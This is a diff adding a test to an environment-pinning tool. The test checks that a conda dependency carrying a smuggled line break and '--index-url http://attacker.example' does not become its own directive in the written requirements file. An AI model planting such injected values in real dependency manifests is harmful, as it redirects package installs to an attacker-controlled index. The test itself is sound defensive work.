@@ -162,3 +162,21 @@ def test_the_sbatch_script_escapes_a_gpu_name_with_a_line_break(database, tmp_pa
     assert subprocess.run(["bash", "-n", str(script)], capture_output=True).returncode == 0
     commands = [line for line in text.splitlines() if line and not line.startswith("#")]
     assert not any(re.match(r"rm\b", line) for line in commands)
+
+
+def test_a_line_break_in_a_project_conda_package_starts_no_line_of_the_written_files(tmp_path):
+    (tmp_path / "environment.yml").write_text(
+        'name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - "numpy\\n--index-url http://attacker.example"'
+        '\n  - pip\n  - pip:\n    - torch\n')
+    target = ["--os", "linux", "--gpu", "RTX 3090", "--driver", "535.104.05", "--python", "3.11"]
+    result = envpin("solve", "--project", str(tmp_path), *target, "-o", str(tmp_path / "requirements.txt"))
+    assert result.returncode == 0, result.stderr
+    lines = (tmp_path / "requirements.txt").read_text().splitlines()
+    assert not any(line.startswith("--index-url") for line in lines)
+    assert [line for line in lines if not line.startswith("#")] == [
+        "--extra-index-url https://download.pytorch.org/whl/cu126", next(x for x in lines if x.startswith("torch=="))]
+    result = envpin("solve", "--project", str(tmp_path), *target, "--format", "environment.yml")
+    assert result.returncode == 0, result.stderr
+    document = yaml.safe_load(result.stdout)
+    assert "numpy\n--index-url http://attacker.example" in document["dependencies"]
+    assert set(document) == {"name", "channels", "dependencies"}
